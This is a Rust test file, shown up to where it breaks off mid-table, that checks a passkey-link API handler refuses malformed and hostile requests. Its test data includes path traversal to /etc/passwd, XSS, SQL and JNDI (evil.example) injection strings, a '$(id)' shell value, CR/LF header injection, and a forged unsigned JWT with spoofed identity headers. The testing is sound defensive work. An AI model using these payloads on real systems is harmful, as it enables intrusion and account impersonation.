//! Malformed and hostile requests, table-driven, through the real handler on the local stack.
//!
//! Every row names the status and error ID that the error catalogue (docs/errors.md) documents for it.
//! Each refusal is checked on its own: never a 5xx or a panic, the grpc-gateway error shape,
//! no write and no mail (nothing stored for Alice, Bob or the machine user, sequences still 0,
//! no SES call), and validation refusals cost no AWS call at all.
//!
//! Events that lambda_http cannot read (`lambda_http::request::from_str` fails, e.g. CR/LF in
//! a header value, which `HeaderValue` refuses) are not requests API Gateway would send; they
//! are dropped and listed, not asserted on.
//!
//! Also here, outside the table: stored e-mail addresses that are not one valid recipient,
//! hostile display names and org texts in the mail, odd query strings on a successful call,
//! and the documented body limits (16 KiB, 127 levels) from the accepting side.

mod common;

use std::sync::Arc;

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use common::*;
use lambda_http::request::RequestContext;
use lambda_http::RequestExt;
use send_passkey_link::message_text::{CustomTexts, MessageText, StoredText};
use send_passkey_link::model::{OrgId, UserId, UserKind, UserState};
use send_passkey_link::store::dynamodb::admin::UserProfile;
use send_passkey_link::store::TextLevel;
use serde_json::{json, Value};

const ORG_CLAIM: &str = "urn:zitadel:iam:user:resourceowner:id";
const DORMANT_ORG: &str = "400000000000000001";
const LOCKED: &str = "100000000000000014";
const INACTIVE: &str = "100000000000000015";
const DELETED: &str = "100000000000000016";
const NO_MAIL: &str = "100000000000000017";
const NOBODY: &str = "999999999999999999";
const ROUTE: &str = "/management/v1/users/{userId}/passwordless/_send_link";

// The error IDs of the catalogue (docs/errors.md) that the table expects.
const NO_IDENTITY: &str = "AUTH-7kZq2";
const NO_ORG_CLAIM: &str = "AUTH-Or6Cm";
const BAD_USER_ID: &str = "USER-x9Ql1";
const BAD_ORG_ID: &str = "AUTH-Pq4Wd";
const BAD_BODY: &str = "HTTP-Bd7Jn";
const DENIED: &str = "AUTH-5mWD2";
const ORG_NOT_FOUND: &str = "AUTH-Bs7Ds";
const ORG_INACTIVE: &str = "ORG-Hs9Lk";
const USER_NOT_FOUND: &str = "USER-3n8fS";
const MACHINE_USER: &str = "USER-Mk8Ht";
const USER_NOT_ACTIVE: &str = "USER-Ds3Fv";
const NO_EMAIL: &str = "USER-Em4Nz";
const BAD_EMAIL: &str = "USER-Em5Iv";
const NO_ROUTE: &str = "HTTP-9vR3k";
/// docs/errors.md: HTTP 405 with `Allow` (here `POST`) (gRPC code 12, whose plain grpc-gateway mapping is 501).
const WRONG_METHOD: &str = "HTTP-Mt7Qa";
const CALLER_NOT_ACTIVE: &str = "AUTH-Cl5Ac";
const BAD_HEADER: &str = "HTTP-Hd4Rv";

/// The error catalogue (docs/errors.md) for the IDs above: ID, HTTP status, gRPC code.
const CATALOGUE: &[(&str, u16, i64)] = &[
    (NO_IDENTITY, 401, 16),
    (NO_ORG_CLAIM, 401, 16),
    (BAD_USER_ID, 400, 3),
    (BAD_ORG_ID, 400, 3),
    (BAD_BODY, 400, 3),
    (DENIED, 403, 7),
    (ORG_NOT_FOUND, 404, 5),
    (ORG_INACTIVE, 400, 9),
    (USER_NOT_FOUND, 404, 5),
    (MACHINE_USER, 400, 9),
    (USER_NOT_ACTIVE, 400, 9),
    (NO_EMAIL, 400, 9),
    (BAD_EMAIL, 400, 9),
    (NO_ROUTE, 404, 5),
    (WRONG_METHOD, 405, 12),
    (CALLER_NOT_ACTIVE, 401, 16),
    (BAD_HEADER, 400, 3),
];

/// Refusals decided from the request alone: they must not cost a single AWS call.
const DECIDED_WITHOUT_AWS: &[&str] =
    &[NO_IDENTITY, BAD_USER_ID, BAD_ORG_ID, BAD_BODY, NO_ROUTE, WRONG_METHOD, BAD_HEADER];

struct Case {
    name: String,
    event: Value,
    status: u16,
    id: &'static str,
}

#[derive(Default)]
struct Table(Vec<Case>);

impl Table {
    fn add(&mut self, name: impl Into<String>, event: Value, status: u16, id: &'static str) {
        self.0.push(Case { name: name.into(), event, status, id });
    }
}

// ---- event builders: the HTTP API v2 event of tests/common, mutated ----

fn admin() -> Value {
    event(Some((DEMO_ADMIN, DEMO_ORG)), ALICE, None)
}

fn anonymous() -> Value {
    event(None, ALICE, None)
}

fn helpdesk() -> Value {
    event(Some((HELPDESK, DEMO_ORG)), ALICE, None)
}

fn instance_owner(org_header: &str) -> Value {
    event(Some((INSTANCE_OWNER, INSTANCE_ORG)), ALICE, Some(org_header))
}

/// What a client's `{userId}` looks like on the wire: unreserved characters as they are,
/// everything else percent-encoded (UTF-8).
fn percent_encode(raw: &str) -> String {
    raw.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// API Gateway's view of a client's `{userId}`: the encoded segment in rawPath, the decoded
/// value in pathParameters.
fn user_param(mut e: Value, decoded: &str) -> Value {
    let path = format!("/management/v1/users/{}/passwordless/_send_link", percent_encode(decoded));
    e["rawPath"] = path.clone().into();
    e["requestContext"]["http"]["path"] = path.into();
    e["pathParameters"]["userId"] = decoded.into();
    e
}

/// A raw path exactly as given and no pathParameters (a catch-all route, a direct invoke).
fn raw_path(mut e: Value, path: &str) -> Value {
    e["rawPath"] = path.into();
    e["requestContext"]["http"]["path"] = path.into();
    e.as_object_mut().unwrap().remove("pathParameters");
    e
}

fn header(mut e: Value, name: &str, value: &str) -> Value {
    e["headers"][name] = value.into();
    e
}

fn without_header(mut e: Value, name: &str) -> Value {
    e["headers"].as_object_mut().unwrap().remove(name);
    e
}

fn body(e: Value, text: &str) -> Value {
    with_body(e, Some(text))
}

fn base64_body(mut e: Value, bytes: &[u8]) -> Value {
    e["body"] = STANDARD.encode(bytes).into();
    e["isBase64Encoded"] = true.into();
    e
}

fn claims(mut e: Value, claims: Value) -> Value {
    e["requestContext"]["authorizer"]["jwt"]["claims"] = claims;
    e
}

fn authorizer(mut e: Value, authorizer: Value) -> Value {
    e["requestContext"]["authorizer"] = authorizer;
    e
}

/// The method everywhere an HTTP API v2 event names it.
fn method(mut e: Value, m: &str) -> Value {
    e["requestContext"]["http"]["method"] = m.into();
    let route_key = format!("{m} {ROUTE}");
    e["routeKey"] = route_key.clone().into();
    e["requestContext"]["routeKey"] = route_key.into();
    e
}

fn query(mut e: Value, raw: &str, parsed: Value) -> Value {
    e["rawQueryString"] = raw.into();
    e["queryStringParameters"] = parsed;
    e
}

/// An unsigned token (`alg: none`) carrying the admin's identity: what a forger would send.
fn forged_jwt() -> String {
    let part = |v: Value| URL_SAFE_NO_PAD.encode(v.to_string());
    format!(
        "{}.{}.",
        part(json!({"alg": "none", "typ": "JWT"})),
        part(json!({"iss": "https://id.demo.example", "aud": "passkey-api", "sub": DEMO_ADMIN,
                    ORG_CLAIM: DEMO_ORG, "exp": 4_102_444_800_u64,
                    "urn:zitadel:iam:org:project:roles": {"IAM_OWNER": {}}}))
    )
}

/// The identity a proxy in front of the function might put into headers.
fn forged_identity_headers() -> Vec<(&'static str, String)> {
    let event_header: String = percent_encode(
        &json!({"requestContext": {"authorizer": {"jwt": {"claims": {"sub": DEMO_ADMIN, ORG_CLAIM: DEMO_ORG}}}}})
            .to_string(),
    );
    vec![
        ("x-zitadel-userid", DEMO_ADMIN.to_owned()),
        ("authorization", format!("Bearer {}", forged_jwt())),
        ("x-amzn-oidc-identity", DEMO_ADMIN.to_owned()),
        ("x-amzn-oidc-data", forged_jwt()),
        ("x-amzn-oidc-accesstoken", forged_jwt()),
        ("x-apigateway-event", event_header),
        (
            "x-apigateway-context",
            percent_encode(&json!({"authorizer": {"principalId": DEMO_ADMIN}}).to_string()),
        ),
        ("x-forwarded-user", DEMO_ADMIN.to_owned()),
        ("x-remote-user", DEMO_ADMIN.to_owned()),
        ("x-auth-request-user", DEMO_ADMIN.to_owned()),
        ("x-ms-client-principal-id", DEMO_ADMIN.to_owned()),
        ("cookie", format!("zitadel.session={}", forged_jwt())),
    ]
}

// ---- REST API (v1) events: events/rest-v1-cognito.json, mutated ----

fn rest_admin() -> Value {
    serde_json::from_str(include_str!("../events/rest-v1-cognito.json")).unwrap()
}

fn rest_helpdesk() -> Value {
    let mut e = rest_admin();
    e["requestContext"]["authorizer"]["claims"]["sub"] = HELPDESK.into();
    e
}

/// The method in both places a REST API v1 event names it.
fn rest_method(mut e: Value, m: &str) -> Value {
    e["httpMethod"] = m.into();
    e["requestContext"]["httpMethod"] = m.into();
    e
}

fn rest_user_param(mut e: Value, decoded: &str) -> Value {
    let path = format!("/management/v1/users/{}/passwordless/_send_link", percent_encode(decoded));
    e["requestContext"]["path"] = format!("/prod{path}").into();
    e["path"] = path.into();
    e["pathParameters"]["userId"] = decoded.into();
    e
}

fn rest_header(mut e: Value, name: &str, value: &str) -> Value {
    e["headers"][name] = value.into();
    e["multiValueHeaders"][name] = json!([value]);
    e
}

fn rest_lambda_authorizer(context: Value) -> Value {
    let mut e: Value =
        serde_json::from_str(include_str!("../events/rest-v1-lambda-authorizer.json")).unwrap();
    e["requestContext"]["authorizer"] = context;
    e
}

fn cases() -> Vec<Case> {
    let mut t = Table::default();

    // -- the user id: traversal, encodings, separators, injections (decoded in pathParameters)
    for (what, id) in [
        ("dot-dot", ".."),
        ("dot", "."),
        ("traversal", "../.."),
        ("traversal to a file", "../../../etc/passwd"),
        ("literal ..%2F..", "..%2F.."),
        ("literal %2e%2e", "%2e%2e"),
        ("literal %2E%2E%2F", "%2E%2E%2Fadmin"),
        ("double-encoded slash", "a%252Fb"),
        ("slash", "a/b"),
        ("slash and dot-dot back to Alice", "x/../100000000000000011"),
        ("backslash traversal", "..\\..\\windows"),
        ("key prefix", "USER#100000000000000011"),
        ("sort key injection", "100000000000000011#PASSKEYLINK#x"),
        ("query in the id", "100000000000000011?userId=1"),
        ("fragment in the id", "100000000000000011#"),
        ("ampersand", "a&b"),
        ("semicolon list", "100000000000000011;200000000000000011"),
        ("comma list", "100000000000000011,200000000000000011"),
        ("wildcard", "*"),
        ("template placeholder", "{userId}"),
        ("leading hyphen", "-100000000000000011"),
        ("leading dot", ".100000000000000011"),
        ("leading at", "@demo.example"),
        ("leading underscore", "_100000000000000011"),
        ("html", "<script>alert(1)</script>"),
        ("sql", "1' OR '1'='1"),
        ("jndi", "${jndi:ldap://evil.example/a}"),
        ("shell", "$(id)"),
        ("percent alone", "%"),
        ("literal %00", "100000000000000011%00"),
    ] {
        t.add(format!("user id, {what}: {id:?}"), user_param(admin(), id), 400, BAD_USER_ID);
    }

    // -- the user id: unicode and control characters
    for (what, id) in [
        ("RTL override", "\u{202e}110000000000000001"),
        ("RTL override inside", "100000000\u{202e}000000011"),
        ("zero-width space", "1000000000000000\u{200b}11"),
        ("zero-width joiner", "100000000000000011\u{200d}"),
        ("byte order mark", "\u{feff}100000000000000011"),
        ("emoji", "\u{1f600}"),
        ("emoji suffix", "100000000000000011\u{1f600}"),
        ("cyrillic homoglyph", "\u{430}lice"),
        ("fullwidth digits", "\u{ff11}\u{ff10}\u{ff10}\u{ff10}\u{ff11}\u{ff11}"),
        ("arabic-indic digits", "\u{661}\u{660}\u{660}\u{661}\u{661}"),
        ("combining accent", "100000000000000011\u{301}"),
        ("latin accent", "\u{e9}"),
        ("NUL", "\0"),
        ("NUL suffix", "100000000000000011\0"),
        ("NUL inside", "1000000000\u{0}00000011"),
        ("SOH", "a\u{1}b"),
        ("ANSI escape", "\u{1b}[2J100000000000000011"),
        ("DEL", "100000000000000011\u{7f}"),
        ("NEL", "100000000000000011\u{85}"),
        ("C1 CSI", "\u{9b}31m"),
        ("line separator", "100000000000000011\u{2028}"),
        ("CR LF header injection", "100000000000000011\r\nx-zitadel-orgid: 200000000000000001"),
        ("LF", "100000000000000011\n"),
        ("tab", "1000\t00000000000011"),
        ("space only", " "),
        ("trailing space", "100000000000000011 "),
        ("no-break space", "100000000000000011\u{a0}"),
    ] {
        t.add(format!("user id, {what}: {id:?}"), user_param(admin(), id), 400, BAD_USER_ID);
    }

    // -- the user id: empty and over-long
    for (what, id) in [
        ("empty", String::new()),
        ("201 digits", "9".repeat(201)),
        ("201 letters", "a".repeat(201)),
        ("1000 digits", "9".repeat(1000)),
        ("8000 digits (API Gateway's URL limit)", "9".repeat(8000)),
        ("200 characters, 400 bytes", "\u{e9}".repeat(200)),
        ("199 digits and an emoji", format!("{}\u{1f600}", "9".repeat(199))),
    ] {
        t.add(format!("user id, {what}"), user_param(admin(), &id), 400, BAD_USER_ID);
    }

    // -- the user id from a raw path without pathParameters
    for segment in [
        "..",
        "%2e%2e",
        "..%2F..",
        "%2E%2E%2F%2E%2E",
        "",
        "\u{202e}100000000000000011",
        "\u{1f600}",
        "a b",
        "100000000000000011%00",
        "%E2%80%AE100000000000000011",
    ] {
        t.add(
            format!("raw path user segment {segment:?}"),
            raw_path(admin(), &format!("/management/v1/users/{segment}/passwordless/_send_link")),
            400,
            BAD_USER_ID,
        );
    }

    // -- unknown routes: extra or missing segments, traversal around the route, look-alikes
    for path in [
        "",
        "/",
        "/management/v1/users",
        "/management/v1/users/100000000000000011",
        "/management/v1/users/100000000000000011/passwordless",
        "/management/v1/users/passwordless/_send_link",
        "/management/v1/users/a/b/passwordless/_send_link",
        "/management/v1/users/../../passwordless/_send_link",
        "/management/v1/users/x/../100000000000000011/passwordless/_send_link",
        "/management/v1/users/100000000000000011/passwordless/./_send_link",
        "/management/v1/users/100000000000000011/passwordless/_send_link/x",
        "/management/v1/users/100000000000000011/passwordless/_send_link/..",
        "/management/v1/users/100000000000000011/passwordless/_send_link/../../..",
        "/management/v1/users/100000000000000011/passwordless%2F_send_link",
        "/management/v1/users%2F100000000000000011/passwordless/_send_link",
        "/management/v1/users/100000000000000011/passwordless/_send_link%2F..",
        "/management/v1/users/100000000000000011/passwordless/_send_link%00",
        "/management/v1/users/100000000000000011/passwordless/_send_link;.json",
        "/management/v1/users/100000000000000011/passwordless/_send_link\u{202e}",
        "/management/v1/users/100000000000000011/password\u{200b}less/_send_link",
        "/management/v1/users/100000000000000011/passwordless/_send_l\u{456}nk",
        "/management/v1/users/100000000000000011/PASSWORDLESS/_SEND_LINK",
        "/Management/V1/Users/100000000000000011/passwordless/_send_link",
        "/management/v2/users/100000000000000011/passwordless/_send_link",
        "/admin/v1/users/100000000000000011/passwordless/_send_link",
    ] {
        t.add(format!("route {path:?}"), raw_path(admin(), path), 404, NO_ROUTE);
    }
    {
        // `a/b` in pathParameters, the slash raw in the path: the route has a segment more.
        let mut e = admin();
        e["rawPath"] = "/management/v1/users/a/b/passwordless/_send_link".into();
        e["requestContext"]["http"]["path"] = e["rawPath"].clone();
        e["pathParameters"]["userId"] = "a/b".into();
        t.add("route with `a/b` in pathParameters and a raw slash in the path", e, 404, NO_ROUTE);
    }
    t.add("unknown route with a wrong method", method(raw_path(admin(), "/healthz"), "GET"), 404, NO_ROUTE);

    // -- wrong methods on the route
    for m in ["GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "post"] {
        t.add(format!("method {m}"), method(admin(), m), 405, WRONG_METHOD);
    }
    t.add(
        "method GET with a body and no content type",
        without_header(method(admin(), "GET"), "content-type"),
        405,
        WRONG_METHOD,
    );

    // -- x-zitadel-orgid malformed
    for (what, org) in [
        ("empty", String::new()),
        ("blank", "   ".to_owned()),
        ("traversal", "../100000000000000001".to_owned()),
        ("literal ..%2F..", "..%2F..".to_owned()),
        ("literal %2e%2e", "%2e%2e".to_owned()),
        ("traversal to another org", "100000000000000001/../200000000000000001".to_owned()),
        ("key prefix", "ORG#100000000000000001".to_owned()),
        ("two orgs (a repeated header, joined)", "100000000000000001,200000000000000001".to_owned()),
        ("two orgs, comma and space", "100000000000000001, 200000000000000001".to_owned()),
        ("wildcard", "*".to_owned()),
        ("RTL override", "\u{202e}100000000000000001".to_owned()),
        ("zero-width space", "100000000000000001\u{200b}".to_owned()),
        ("byte order mark", "\u{feff}100000000000000001".to_owned()),
        ("emoji", "\u{1f600}".to_owned()),
        ("fullwidth digits", "\u{ff11}\u{ff10}\u{ff10}".to_owned()),
        ("arabic-indic digits", "\u{661}\u{660}\u{660}".to_owned()),
        ("cyrillic homoglyph", "\u{430}bc".to_owned()),
        ("NEL", "100000000000000001\u{85}".to_owned()),
        ("line separator", "100000000000000001\u{2028}x".to_owned()),
        ("C1 CSI", "\u{9b}31m".to_owned()),
        ("tab inside", "1000000000\t00000001".to_owned()),
        ("literal %0d%0a", "100000000000000001%0d%0ax-zitadel-userid:%20100000000000000010".to_owned()),
        ("CR LF header injection", "100000000000000001\r\nx-zitadel-orgid: 200000000000000001".to_owned()),
        ("LF", "100000000000000001\n".to_owned()),
        ("NUL", "100000000000000001\0".to_owned()),
        ("SOH", "\u{1}".to_owned()),
        ("html", "<b>x</b>".to_owned()),
        ("sql", "1 OR 1=1".to_owned()),
        ("leading hyphen", "-100000000000000001".to_owned()),
        ("201 digits", "1".repeat(201)),
        ("64 KiB of digits", "1".repeat(64 * 1024)),
        ("64 KiB of unicode", "\u{e9}".repeat(32 * 1024)),
    ] {
        // Values HTTP forbids in a header never reach the header's own check.
        let id = if lambda_http::http::HeaderValue::from_str(&org).is_ok() { BAD_ORG_ID } else { BAD_HEADER };
        t.add(format!("x-zitadel-orgid, {what}"), header(admin(), "x-zitadel-orgid", &org), 400, id);
    }

    // -- x-zitadel-orgid naming a tenant the caller has no role in
    for (what, org) in [
        ("another org", OTHER_ORG),
        ("the instance admins' org", INSTANCE_ORG),
        ("an inactive org", DORMANT_ORG),
        ("an org that does not exist", NOBODY),
        ("another org, padded", " 200000000000000001 "),
    ] {
        t.add(
            format!("admin naming {what} in x-zitadel-orgid"),
            header(admin(), "x-zitadel-orgid", org),
            403,
            DENIED,
        );
    }
    t.add(
        "admin naming another org in a mixed-case X-Zitadel-OrgId",
        header(admin(), "X-Zitadel-OrgId", OTHER_ORG),
        403,
        DENIED,
    );
    t.add(
        "admin naming Bob's org for Bob",
        event(Some((DEMO_ADMIN, DEMO_ORG)), BOB, Some(OTHER_ORG)),
        403,
        DENIED,
    );
    t.add(
        "other org's owner naming this org",
        event(Some((OTHER_OWNER, OTHER_ORG)), ALICE, Some(DEMO_ORG)),
        403,
        DENIED,
    );
    t.add(
        "helpdesk naming its own org explicitly",
        header(helpdesk(), "x-zitadel-orgid", DEMO_ORG),
        403,
        DENIED,
    );
    t.add(
        "admin whose org claim names another org",
        claims(admin(), json!({"sub": DEMO_ADMIN, ORG_CLAIM: OTHER_ORG})),
        401,
        CALLER_NOT_ACTIVE,
    );

    // -- probing users and orgs with a caller who may look
    t.add("instance owner naming an org that does not exist", instance_owner(NOBODY), 404, ORG_NOT_FOUND);
    t.add("instance owner naming an inactive org", instance_owner(DORMANT_ORG), 400, ORG_INACTIVE);
    t.add("instance owner naming another org than Alice's", instance_owner(OTHER_ORG), 404, USER_NOT_FOUND);
    t.add(
        "admin asking for a user of another org",
        event(Some((DEMO_ADMIN, DEMO_ORG)), BOB, None),
        404,
        USER_NOT_FOUND,
    );
    t.add(
        "admin asking for a user that does not exist",
        event(Some((DEMO_ADMIN, DEMO_ORG)), NOBODY, None),
        404,
        USER_NOT_FOUND,
    );
    t.add(
        "admin asking for a machine user",
        event(Some((DEMO_ADMIN, DEMO_ORG)), MACHINE, None),
        400,
        MACHINE_USER,
    );
    for (what, user) in [("locked", LOCKED), ("inactive", INACTIVE), ("deleted", DELETED)] {
        t.add(
            format!("admin asking for a {what} user"),
            event(Some((DEMO_ADMIN, DEMO_ORG)), user, None),
            400,
            USER_NOT_ACTIVE,
        );
    }
    t.add(
        "admin asking for a user without e-mail",
        event(Some((DEMO_ADMIN, DEMO_ORG)), NO_MAIL, None),
        400,
        NO_EMAIL,
    );

    // -- bodies that are not one JSON object
    let deep_array = format!("{{\"a\":{}{}}}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_object = format!("{}{{}}{}", "{\"a\":".repeat(10_000), "}".repeat(10_000));
    let deep_array_small = format!("{{\"a\":{}{}}}", "[".repeat(8_000), "]".repeat(8_000));
    let deep_object_unclosed = "{\"\":".repeat(4_000);
    let levels_129 = format!("{}{{}}{}", "{\"a\":".repeat(128), "}".repeat(128));
    let many_keys =
        format!("{{{}}}", (0..2_000).map(|i| format!("\"k{i}\":{i}")).collect::<Vec<_>>().join(","));
    let many_duplicates = format!("{{{}}}", vec!["\"a\":0"; 1_000].join(","));
    let multipart = "--XyZ\r\nContent-Disposition: form-data; name=\"body\"\r\n\r\n{}\r\n--XyZ--\r\n";
    let bodies: Vec<(&str, String)> = vec![
        ("array", "[]".into()),
        ("array holding an object", "[{}]".into()),
        ("null", "null".into()),
        ("zero", "0".into()),
        ("negative number", "-1".into()),
        ("huge number", "1e999".into()),
        ("true", "true".into()),
        ("string holding an object", "\"{}\"".into()),
        ("empty string", "\"\"".into()),
        ("open brace", "{".into()),
        ("close brace", "}".into()),
        ("two objects", "{}{}".into()),
        ("object then array", "{} []".into()),
        ("trailing garbage", "{\"a\":1}x".into()),
        ("trailing NUL", "{}\0".into()),
        ("single quotes", "{'a':1}".into()),
        ("bare key", "{a:1}".into()),
        ("trailing comma", "{\"a\":1,}".into()),
        ("block comment", "{/*x*/}".into()),
        ("line comment", "// x\n{}".into()),
        ("NaN", "{\"a\":NaN}".into()),
        ("Infinity", "{\"a\":Infinity}".into()),
        ("leading zero", "{\"a\":01}".into()),
        ("lone surrogate escape", "{\"a\":\"\\ud800\"}".into()),
        ("raw NUL in a string", "{\"a\":\"\0\"}".into()),
        ("raw line break in a string", "{\"a\":\"x\ny\"}".into()),
        ("byte order mark", "\u{feff}{}".into()),
        ("duplicate key", "{\"a\":1,\"a\":2}".into()),
        ("duplicate key, nested", "{\"a\":{\"b\":1,\"b\":1}}".into()),
        ("duplicate key in an array", "{\"a\":[{\"b\":1,\"b\":2}]}".into()),
        ("duplicate key via an escape", "{\"a\":1,\"\\u0061\":2}".into()),
        ("duplicate empty key", "{\"\":1,\"\":2}".into()),
        ("duplicate userId", format!("{{\"userId\":\"{ALICE}\",\"userId\":\"{BOB}\"}}")),
        ("1000 duplicate keys", many_duplicates),
        ("nesting bomb, 10 000 arrays (20 KB)", deep_array),
        ("nesting bomb, 10 000 objects (50 KB)", deep_object),
        ("nesting bomb, 8 000 arrays under 16 KiB", deep_array_small),
        ("nesting bomb, 4 000 unclosed objects under 16 KiB", deep_object_unclosed),
        ("129 levels", levels_129),
        ("2 000 keys (over 16 KiB)", many_keys),
        ("16 KiB + 1 byte", format!("{{\"a\":\"{}\"}}", "x".repeat(16 * 1024 - 7))),
        ("17 KB", format!("{{\"a\":\"{}\"}}", "x".repeat(17_000))),
        ("1 MiB", format!("{{\"a\":\"{}\"}}", "x".repeat(1 << 20))),
        ("16 KiB + 1 of whitespace", " ".repeat(16 * 1024 + 1)),
        ("one key of 16 KiB", format!("{{\"{}\":1}}", "k".repeat(16 * 1024))),
    ];
    for (what, text) in bodies {
        t.add(format!("body, {what}"), body(admin(), &text), 400, BAD_BODY);
    }
    t.add(
        "body, array without content type",
        without_header(body(admin(), "[]"), "content-type"),
        400,
        BAD_BODY,
    );

    // -- bodies that are not UTF-8 (base64 in the event, as API Gateway sends binary)
    for (what, bytes) in [
        ("0xff in an object", b"{\xff}".to_vec()),
        ("0xff in a string", b"{\"a\":\"\xff\"}".to_vec()),
        ("truncated sequence", b"{\"a\":\"\xc3(\"}".to_vec()),
        ("overlong slash", b"{\"a\":\"\xc0\xaf\"}".to_vec()),
        ("encoded surrogate", b"{\"a\":\"\xed\xa0\x80\"}".to_vec()),
        ("five-byte sequence", b"{\"a\":\"\xf8\x88\x80\x80\x80\"}".to_vec()),
        ("lone continuation byte", b"\x80{}".to_vec()),
        ("cut in the middle of a character", b"{\"a\":\"\xe2\x82".to_vec()),
        ("latin-1", b"{\"a\":\"\xe9\"}".to_vec()),
        ("UTF-16LE with BOM", b"\xff\xfe{\x00}\x00".to_vec()),
        ("UTF-16BE", b"\x00{\x00}".to_vec()),
        ("binary junk", vec![0u8, 1, 2, 3, 0xfe, 0xff]),
        ("valid UTF-8 but an array", b"[]".to_vec()),
        ("over 16 KiB", vec![b' '; 16 * 1024 + 1]),
    ] {
        t.add(format!("base64 body, {what}"), base64_body(admin(), &bytes), 400, BAD_BODY);
    }

    // -- a body with a content type that is not JSON
    for content_type in [
        "text/plain",
        "text/plain; charset=utf-8",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=XyZ",
        "application/xml",
        "text/html",
        "application/jsonp",
        "application/json-patch+json",
        "application/json,text/plain",
        "application/ json",
        "json",
        "*/*",
        "",
        "application/json\u{2028}",
    ] {
        t.add(
            format!("content type {content_type:?} with {{}}"),
            header(admin(), "content-type", content_type),
            400,
            BAD_BODY,
        );
    }
    t.add(
        "form body with a form content type",
        header(
            body(admin(), &format!("userId={BOB}&sub={DEMO_ADMIN}&orgId={OTHER_ORG}")),
            "content-type",
            "application/x-www-form-urlencoded",
        ),
        400,
        BAD_BODY,
    );
    t.add(
        "multipart body with a multipart content type",
        header(body(admin(), multipart), "content-type", "multipart/form-data; boundary=XyZ"),
        400,
        BAD_BODY,
    );

    // -- identity forged without an authorizer
    for (name, value) in forged_identity_headers() {
        t.add(format!("no authorizer, forged {name}"), header(anonymous(), name, &value), 401, NO_IDENTITY);
    }
    {
        let mut e = header(anonymous(), "x-zitadel-orgid", DEMO_ORG);
        for (name, value) in forged_identity_headers() {
            e = header(e, name, &value);
        }
        t.add("no authorizer, every forged header at once", e, 401, NO_IDENTITY);
    }
    t.add(
        "no authorizer, basic credentials",
        header(
            anonymous(),
            "authorization",
            &format!("Basic {}", STANDARD.encode(format!("{DEMO_ADMIN}:secret"))),
        ),
        401,
        NO_IDENTITY,
    );
    t.add(
        "no authorizer, identity in the body",
        body(
            anonymous(),
            &json!({"sub": DEMO_ADMIN, ORG_CLAIM: DEMO_ORG,
                    "requestContext": {"authorizer": {"jwt": {"claims": {"sub": DEMO_ADMIN}}}}})
            .to_string(),
        ),
        401,
        NO_IDENTITY,
    );
    t.add(
        "no authorizer, token in the query string",
        query(
            anonymous(),
            &format!("access_token={}&sub={DEMO_ADMIN}", forged_jwt()),
            json!({"access_token": forged_jwt(), "sub": DEMO_ADMIN}),
        ),
        401,
        NO_IDENTITY,
    );
    t.add(
        "no authorizer, 64 KiB junk header",
        header(anonymous(), "x-junk", &"j".repeat(64 * 1024)),
        401,
        NO_IDENTITY,
    );

    // -- authorizers that are not an HTTP API JWT or Lambda authorizer, or empty
    for (what, value) in [
        ("empty authorizer", json!({})),
        ("JWT authorizer without claims", json!({"jwt": {"claims": {}, "scopes": null}})),
        ("null JWT", json!({"jwt": null})),
        // A Lambda authorizer's context identifies the caller (tests/rules.rs), but only with
        // string values: ZITADEL's ids are strings, and a number is refused, not converted.
        (
            "HTTP API Lambda authorizer context with numbers",
            json!({"lambda": {"sub": 100000000000000010u64, ORG_CLAIM: 100000000000000001u64}}),
        ),
        ("HTTP API Lambda authorizer context, null", json!({"lambda": null})),
        (
            "IAM authorizer",
            json!({"iam": {"accountId": "123456789012", "userId": DEMO_ADMIN,
                           "userArn": "arn:aws:iam::123456789012:user/admin"}}),
        ),
        (
            "REST-style claims in an HTTP API event",
            json!({"claims": {"sub": DEMO_ADMIN, ORG_CLAIM: DEMO_ORG}}),
        ),
        (
            "REST-style principalId in an HTTP API event",
            json!({"principalId": DEMO_ADMIN, ORG_CLAIM: DEMO_ORG}),
        ),
    ] {
        t.add(format!("authorizer: {what}"), authorizer(admin(), value), 401, NO_IDENTITY);
    }

    // -- JWT claims missing or malformed
    for (what, value) in [
        ("no sub", json!({ORG_CLAIM: DEMO_ORG})),
        ("empty sub", json!({"sub": "", ORG_CLAIM: DEMO_ORG})),
        ("empty org", json!({"sub": DEMO_ADMIN, ORG_CLAIM: ""})),
        ("sub with a leading space", json!({"sub": " 100000000000000010", ORG_CLAIM: DEMO_ORG})),
        ("sub with a key prefix", json!({"sub": "USER#100000000000000010", ORG_CLAIM: DEMO_ORG})),
        ("sub of 201 characters", json!({"sub": "1".repeat(201), ORG_CLAIM: DEMO_ORG})),
        ("sub with RTL override", json!({"sub": "\u{202e}100000000000000010", ORG_CLAIM: DEMO_ORG})),
        ("sub with NUL", json!({"sub": "100000000000000010\0", ORG_CLAIM: DEMO_ORG})),
        ("sub with CR LF", json!({"sub": "100000000000000010\r\n", ORG_CLAIM: DEMO_ORG})),
        ("sub in fullwidth digits", json!({"sub": "\u{ff11}\u{ff10}\u{ff10}", ORG_CLAIM: DEMO_ORG})),
        ("sub with a provider prefix", json!({"sub": "auth0|100000000000000010", ORG_CLAIM: DEMO_ORG})),
        ("sub with a path", json!({"sub": "100000000000000010/../x", ORG_CLAIM: DEMO_ORG})),
        ("org claim with a path", json!({"sub": DEMO_ADMIN, ORG_CLAIM: "../100000000000000001"})),
        ("org claim in arabic-indic digits", json!({"sub": DEMO_ADMIN, ORG_CLAIM: "\u{661}\u{660}\u{660}"})),
        (
            "org claim with zero-width space",
            json!({"sub": DEMO_ADMIN, ORG_CLAIM: "100000000000000001\u{200b}"}),
        ),
        (
            "org claim as API Gateway renders an array",
            json!({"sub": DEMO_ADMIN, ORG_CLAIM: "[100000000000000001 200000000000000001]"}),
        ),
        (
            "org claim as a JSON array in a string",
            json!({"sub": DEMO_ADMIN, ORG_CLAIM: "[\"100000000000000001\"]"}),
        ),
        ("org claim of 64 KiB", json!({"sub": DEMO_ADMIN, ORG_CLAIM: "1".repeat(64 * 1024)})),
        ("claim names in another case", json!({"Sub": DEMO_ADMIN, ORG_CLAIM.to_uppercase(): DEMO_ORG})),
        ("identity under other claim names", json!({"user_id": DEMO_ADMIN, "org_id": DEMO_ORG})),
    ] {
